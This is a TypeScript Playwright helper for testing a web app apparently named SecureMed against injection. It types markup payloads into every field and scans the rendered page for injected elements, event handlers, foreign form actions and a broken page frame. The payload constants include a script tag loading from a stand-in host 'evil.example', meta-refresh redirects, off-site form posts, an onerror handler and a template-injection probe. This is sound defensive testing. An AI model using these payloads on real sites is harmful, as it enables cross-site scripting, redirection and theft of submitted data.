// What is typed into every field, and how a page is looked at that may show some of it.

import type { Page } from '@playwright/test';

/** A site that is nobody's: no page of ours may ask it for anything, or lead there. */
export const FOREIGN = 'evil.example';

/** What a line takes, behind its number: it has at most 200 characters. */
const LINE =
  `</title></textarea></form></script>"><b data-typed><meta http-equiv=refresh content=0;url=//${FOREIGN}>` +
  `<form action=//${FOREIGN}><img src=x onerror=alert(1)>`;

/** What a text takes, behind its number: an address has at most 300. */
const TEXT =
  `</title></textarea></form></script></select>-->"'><b data-typed><script src=//${FOREIGN}></script>` +
  `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/"><form action="https://${FOREIGN}/" method=post>` +
  `<button>Go</button><img src=x onerror=alert(1)> {{7*7}} &lt;b data-typed&gt;`;

/** What is put into addresses and into fields that take no words. */
export const SHORT = `</title></textarea></form>"><b data-typed><meta http-equiv=refresh content=0;url=//${FOREIGN}>`;

/** What is typed into a field: its number tells later where it is shown. */
export const typed = (number: number, isLong: boolean) => `typed-${number}${isLong ? TEXT : LINE}`;

/** The number in what was typed. */
export const numberIn = (text: string) => Number(/^typed-(\d+)/.exec(text)?.[1] ?? Number.NaN);

/** What is found on a page. */
export interface Seen {
  title: string;
  /** What stands there that nobody of us wrote, or that leads away. */
  wrong: string[];
  /** The numbers of what was typed and is shown as text. */
  numbers: number[];
  /** The numbers that stand in a text area. */
  inTextareas: number[];
  /** The addresses of this site that the page leads to. */
  links: string[];
}

/** Looks at the page as the browser understood it. Runs inside it. */
function look(): Seen {
  const wrong: string[] = [];
  const shortened = ({ outerHTML }: Element) => outerHTML.slice(0, 160);
  const isForeign = (address: string | null) => address !== null && new URL(address, location.href).origin !== location.origin;
  for (const element of document.querySelectorAll('*')) {
    const isOdd = element.matches('[data-typed], meta[http-equiv], base, iframe, object, embed, noscript');
    const leadsAway =
      (element.matches('form') && isForeign(element.getAttribute('action'))) || isForeign(element.getAttribute('formaction'));
    const isScript = element instanceof HTMLScriptElement && !element.nonce;
    const hasScript = [...element.attributes].some(({ name, value }) => name.startsWith('on') || /^\s*javascript:/i.test(value));
    if (isOdd || leadsAway || isScript || hasScript) wrong.push(shortened(element));
  }
  // The frame around the page is whole: nothing ended the title early, nothing swallowed what stands behind it.
  if (!/^(SecureMed|.+ · SecureMed)$/s.test(document.title)) wrong.push(`the title is “${document.title}”`);
  if (document.querySelectorAll('head > title').length !== 1) wrong.push('there is not one title');
  for (const part of ['header.site-header', 'main', 'footer.site-footer']) {
    const found = [...document.querySelectorAll(part)];
    if (found.length !== 1 || found[0]?.closest('form, textarea, b')) wrong.push(`there is not one ${part}`);
  }
  if (document.querySelectorAll('footer.site-footer a[href="/privacy"]').length !== 1) wrong.push('the end of the page is missing');

  const texts = [document.title];
  const nodes = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
  while (nodes.nextNode()) {
    if (!nodes.currentNode.parentElement?.closest('script, style, title, textarea')) texts.push(nodes.currentNode.nodeValue ?? '');
  }
  for (const element of document.querySelectorAll('input, option, [aria-label], [title], [alt]')) {
    // An address, such as that of the page to come back to, has its own way to write what was typed.
    const told = ['value', 'aria-label', 'title', 'alt'].map((name) => element.getAttribute(name) ?? '');
    texts.push(...told.filter((text) => !text.startsWith('/')));
  }
  const numbers = new Set<number>();
  const read = (text: string) => {
    const found = [...text.matchAll(/typed-(\d+)(.{0,8})/gs)];
    for (const [, number, behind = ''] of found) {
      numbers.add(Number(number));
      // A long line may be cut, with a mark that says so; markup that was taken for markup is missing without one.
      if (!'</title>'.startsWith(behind.split('…')[0] ?? '')) wrong.push(`number ${number} is not whole: “${behind}”`);
    }
    return found.map(([, number]) => Number(number));
  };
  texts.forEach(read);
  const inTextareas = [...document.querySelectorAll('textarea')].flatMap(({ value }) => read(value));
  const links = [...document.links]
    .filter((link) => link instanceof HTMLAnchorElement && link.origin === location.origin && !link.hasAttribute('download') && !link.target)
    .map((link) => link.pathname + link.search);
  return { title: document.title, wrong, numbers: [...numbers], inTextareas, links };
}

/** What the page that is open shows. */
export const seenOn = (page: Page): Promise<Seen> => page.evaluate(look);
